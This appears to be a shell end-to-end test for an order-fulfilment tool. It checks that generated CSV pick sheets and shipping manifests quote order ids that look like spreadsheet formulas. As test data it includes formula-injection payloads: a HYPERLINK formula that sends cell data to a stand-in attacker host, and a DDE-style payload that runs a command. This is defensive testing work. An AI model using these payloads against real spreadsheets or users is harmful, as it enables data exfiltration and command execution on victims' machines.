#!/bin/sh
# The CSVs the tools write (pick sheets, manifests) are opened in
# spreadsheets: an order id from a shop's export that starts like a
# formula is written with a ' before it, so that it shows as text.
. "$FULFIL_ROOT/tests/e2e/lib.sh"
setup

# Four of the test orders renamed as an attacker would name them.
cat >ids.json <<'IDS'
{"P-1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
 "P-2": "+1+cmd|' /C calc'!A0", "P-3": "@SUM(1+1)", "P-6": "-2+3"}
IDS
jq -c --slurpfile ids ids.json '.order_id |= ($ids[0][.] // .)' \
    "$DATA/pick-orders.ndjson" | ingest-orders -q >in.ndjson
is "ingest takes the ids as they are" "$(jq -r .order_id in.ndjson | head -n 3 | tr '\n' ' ')" \
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") +1+cmd|' /C calc'!A0 @SUM(1+1) "
pick-list -q -o sheets in.ndjson >picked.ndjson
cat sheets/*.csv >sheets.csv
check "pick sheet: = quoted" grep -q '"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' sheets.csv
check "pick sheet: + quoted" grep -q '"'"'"'+1+cmd|'"'"' /C calc'"'"'!A0"' sheets.csv
check "pick sheet: @ quoted" grep -q '"'"'"'@SUM(1+1)"' sheets.csv
check "pick sheet: - quoted" grep -q '"'"'"'-2+3"' sheets.csv
is "pick sheet: no field starts a formula" \
    "$(grep -c '"[=+@-]' sheets.csv || :)" 0
is "pick sheet: numbers stay numbers" \
    "$(sed -n 2p sheets/batch-000001.csv | cut -d, -f1,3,7,8)" '"1","1","1","1"'

label -q picked.ndjson | FULFIL_NOW=2026-11-23T16:45:00+08:00 dispatch -q >/dev/null
FULFIL_NOW=2026-11-23T16:45:00+08:00 dispatch -q --close -o day >/dev/null
cat day/*.csv >manifests.csv
check "manifest: = quoted" grep -q '"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' manifests.csv
check "manifest: @ quoted" grep -q '"'"'"'@SUM(1+1)"' manifests.csv
is "manifest: no field starts a formula" \
    "$(grep -c '"[=+@-]' manifests.csv || :)" 0
is "manifest: the weight stays a number" \
    "$(grep -c '"[0-9][0-9]*\.[0-9][0-9][0-9]",' manifests.csv)" \
    "$(($(wc -l <manifests.csv) - $(ls day/*.csv | wc -l)))"
done_testing
